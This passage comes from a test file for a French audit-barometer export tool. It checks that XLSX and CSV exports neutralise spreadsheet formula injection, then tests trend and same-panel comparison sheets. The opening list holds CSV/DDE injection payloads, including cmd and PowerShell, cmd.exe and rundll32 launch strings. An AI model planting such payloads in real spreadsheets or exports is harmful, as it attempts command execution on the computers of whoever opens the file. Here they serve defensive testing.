    "=cmd|'/c powershell -e JAB'!A0", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0", "=rundll32|'URL.dll,OpenURL http://x'!A0",
    '+HYPERLINK("http://x")', '-HYPERLINK("http://x")', '@HYPERLINK("http://x")', '\t@SUM(A1)', '\r+1', '=\u0000NUL', '=1\u0007bell',
    '<script>alert(1)</script>', ']]></t><f>1+1</f><t>', '&lt;f&gt;1&lt;/f&gt;', '=+1', '==1', '=-1', '=@A1', '=LAMBDA(x;x)(1)', '\r\n=1',
  ];
  let fx: Fixture;
  let out: string;

  beforeAll(() => {
    expect(PAYLOADS).toHaveLength(50);
    // Structure names carry payloads (every one of them: 50 structures), comments carry them too.
    fx = buildFixture({
      perCategory: { 'ville-plus-50k': 20, 'ville-moins-20k': 20, 'panel-prive': 10 },
      editions: [2023],
      auditsPerStructure: 6,
      names: PAYLOADS,
      comments: PAYLOADS,
      seed: 7,
    });
    out = path.join(fx.dir, 'out');
  });
  afterAll(() => fx.cleanup());

  async function assertNoFormula(file: string): Promise<void> {
    const parts = await zipParts(file);
    for (const [name, xml] of parts) {
      if (name.startsWith('xl/worksheets/')) {
        expect(xml, `${path.basename(file)} ${name}`).not.toMatch(/<f[ >]/);
      }
    }
    const wb = readBook(file);
    for (const name of wb.SheetNames) {
      const ws = wb.Sheets[name] as XLSX.WorkSheet;
      for (const [ref, cell] of Object.entries(ws)) {
        if (ref.startsWith('!')) continue;
        expect((cell as XLSX.CellObject).f, `${name}!${ref}`).toBeUndefined();
      }
    }
  }

  it('no cell of the tables or of any structure workbook is a formula; payload text survives as text', async () => {
    const tables = await writeBarometerTables(fx.db, { edition: 2023, outFile: path.join(out, 'tables.xlsx') });
    await assertNoFormula(tables.file);
    const batch = await exportStructureWorkbooks(fx.db, { edition: 2023, outDir: path.join(out, 'all'), keepNames: true });
    expect(batch.count).toBe(50);
    for (const f of batch.files) await assertNoFormula(f);
    // XML readers normalise line ends (CR LF and CR become LF); illegal controls are removed.
    const shown = (p: string): string => p.replace(/[\u0000-\u0008]/g, '').replace(/\r\n?/g, '\n');
    // The winners' payload names are shown literally as strings.
    const wb = readBook(tables.file);
    const names = table(wb, 'Lauréats', 'Catégorie').rows.map((r) => r[1]);
    expect(names.length).toBeGreaterThan(0);
    for (const n of names) expect(PAYLOADS.map(shown)).toContain(shown(String(n)));
    // Each structure workbook shows its own (payload) name as text in the Lisez-moi sheet.
    for (const [i, s] of fx.structures.entries()) {
      const own = readBook(batch.files[i]!);
      const cells = rowsOf(own, 'Lisez-moi').flat().map((c) => (typeof c === 'string' ? shown(c) : c));
      expect(cells).toContain(shown(s.name));
    }
  });

  it('the CSV guard holds for every payload', () => {
    const file = path.join(fx.dir, 'payloads.csv');
    fs.mkdirSync(fx.dir, { recursive: true });
    writeCsv(file, ['Nom', 'Score'], PAYLOADS.map((p, i) => [p, i - 10]));
    const text = fs.readFileSync(file, 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    // Parse the CSV (quotes, doubled quotes, ; separator, CRLF) and check each first field.
    const fields: string[][] = [];
    let row: string[] = [];
    let cur = '';
    let quoted = false;
    const body = text.slice(1);
    for (let i = 0; i < body.length; i += 1) {
      const ch = body[i]!;
      if (quoted) {
        if (ch === '"' && body[i + 1] === '"') { cur += '"'; i += 1; } else if (ch === '"') quoted = false; else cur += ch;
      } else if (ch === '"') quoted = true;
      else if (ch === ';') { row.push(cur); cur = ''; } else if (ch === '\r' && body[i + 1] === '\n') { row.push(cur); fields.push(row); row = []; cur = ''; i += 1; } else cur += ch;
    }
    expect(fields).toHaveLength(PAYLOADS.length + 1);
    PAYLOADS.forEach((p, i) => {
      const [name, score] = fields[i + 1]!;
      const clean = p.replace(/[\u0000-\u0008]/g, '');
      expect(/^[=+\-@\t\r]/.test(name!)).toBe(false);
      expect(name).toBe(/^[=+\-@\t\r]/.test(clean) ? `'${clean}` : clean);
      expect(score).toBe(String(i - 10)); // numbers are numbers: a negative score is not prefixed
    });
  });
});

const NEWCOMERS = ['S00001', 'S00003', 'S00004', 'S00005'];

describe('trend sheets: bases, same panel and states in words', () => {
  let fx: Fixture;
  let out: string;
  beforeAll(() => {
    // 8 + 2 structures, one referential; S00001, S00003–S00005 are absent in 2022 (4 newcomers: the
    // smallest difference between the full group and the same panel the disclosure rule lets both
    // be shown side by side), S00002 keeps 2 audits in 2023.
    fx = buildFixture({ perCategory: { 'ville-plus-50k': 8, 'ville-20k-50k': 2 }, revision: false, seed: 7 });
    out = path.join(fx.dir, 'out');
    for (const code of NEWCOMERS) {
      fx.db.prepare('DELETE FROM observation WHERE audit_id IN (SELECT id FROM audit WHERE edition = 2022 AND structure_code = ?)').run(code);
      fx.db.prepare('DELETE FROM audit WHERE edition = 2022 AND structure_code = ?').run(code);
    }
    const keep = fx.db.prepare("SELECT id FROM audit WHERE edition = 2023 AND structure_code = 'S00002' AND channel = 'telephone' ORDER BY id LIMIT 2").pluck().all() as number[];
    fx.db.prepare(`DELETE FROM observation WHERE audit_id IN (SELECT id FROM audit WHERE edition = 2023 AND structure_code = 'S00002' AND id NOT IN (${keep.join(',')}))`).run();
    fx.db.prepare(`DELETE FROM audit WHERE edition = 2023 AND structure_code = 'S00002' AND id NOT IN (${keep.join(',')})`).run();
    refreshAggregates(fx.db, { editions: [2022, 2023] });
  });
  afterAll(() => fx.cleanup());

  /** Evolution rows (level, label, score 2022, audits 2022, score 2023, audits 2023, change, reading). */
  async function evolution(code: string): Promise<Row[]> {
    const r = await writeStructureWorkbook(fx.db, { structure: code, edition: 2023, outFile: path.join(out, `${code}.xlsx`) });
    const t = table(readBook(r.file), 'Évolution', 'Niveau');
    expect(t.header).toEqual(['Niveau', 'Libellé', 'Score 2022', 'Audits 2022', 'Score 2023', 'Audits 2023', 'Évolution 2022→2023 (points)', 'Lecture 2022→2023']);
    return t.rows;
  }

  it('a structure absent in 2022 reads "Non participant en 2022", never "Comparable" beside an empty value', async () => {
    const rows = await evolution('S00001');
    const overall = rows.find((r) => r[0] === 'Global') as Row;
    expect(overall[2] ?? null).toBeNull();
    expect(overall[3]).toBe(0);
    expect(overall[5]).toBe(13);
    expect(overall[6] ?? null).toBeNull();
    expect(overall[7]).toBe('Non participant en 2022');
    for (const r of rows) expect(r[7]).toBe('Non participant en 2022');
    const en = await writeStructureWorkbook(fx.db, { structure: 'S00001', edition: 2023, lang: 'en', outFile: path.join(out, 'S00001-en.xlsx') });
    const enBook = readBook(en.file);
    const enSheet = enBook.SheetNames.find((n) => rowsOf(enBook, n).some((r) => r[0] === 'Level' && r[7] === 'Reading 2022→2023')) as string;
    expect(table(enBook, enSheet, 'Level').rows.map((r) => r[7])).toContain('Did not take part in 2022');
  });

  it('a change on fewer than 3 audits is given and flagged "Base faible"', async () => {
    const rows = await evolution('S00002');
    const overall = rows.find((r) => r[0] === 'Global') as Row;
    expect(overall[5]).toBe(2);
    expect(typeof overall[6]).toBe('number');
    expect(overall[7]).toBe('Base faible (2 audits)');
    // Channels without any 2023 audit have no score: said so, no change.
    expect(rows.find((r) => r[0] === 'Canal' && r[1] === 'Courriel')?.[7]).toBe('Pas de score en 2023');
    for (const r of rows) if (r[7] === 'Comparable') expect(typeof r[6]).toBe('number');
  });

  it('Tendances: category changes on the same panel, equal to the hand-pooled common structures; small categories withheld', async () => {
    const r = await writeBarometerTables(fx.db, { edition: 2023, outFile: path.join(out, 'tables.xlsx') });
    const { rows } = table(readBook(r.file), 'Tendances', 'Périmètre');
    const row = rows.find((x) => x[0] === 'Villes de plus de 50 000 habitants' && x[1] === 'Global') as Row;
    expect(row).toBeDefined();
    // Structures behind each edition's full-panel value: 4 in 2022 (the newcomers absent), 8 in 2023.
    expect([row[4], row[7]]).toEqual([4, 8]);
    // Same panel: the 4 structures scored in both editions, their sums pooled by hand.
    const common = ['S00002', 'S00006', 'S00007', 'S00008'];
    const pooled = (edition: number): number => {
      const own = common.map((code) => readCache(fx.db, { edition, structure: code, level: 'overall' })[0]!);
      return 100 * own.reduce((a, o) => a + o.compliantWeight, 0) / own.reduce((a, o) => a + o.applicableWeight, 0);
    };
    close(row[9], pooled(2022));
    close(row[10], pooled(2023));
    close(row[11], pooled(2023) - pooled(2022));
    expect(row[12]).toBe('Même panel : 4 structures');
    // The full-panel 2023 value includes the newcomers: not the same as the panel's.
    expect(Math.abs((row[6] as number) - pooled(2023))).toBeGreaterThan(1e-9);
    // ville-20k-50k: 2 structures, 1 other besides the reader: every figure withheld, and said so.
    const small = rows.find((x) => x[0] === 'Villes de 20 000 à 50 000 habitants' && x[1] === 'Global') as Row;
    expect([small[3], small[4], small[6], small[7], small[9], small[10], small[11]].every((v) => v === null || v === undefined)).toBe(true);
    expect(String(small[12])).toMatch(/^Non diffusé/);
    for (const x of rows) if (x[12] === 'Comparable' || String(x[12]).startsWith('Même panel')) expect(typeof x[11]).toBe('number');
  });
});
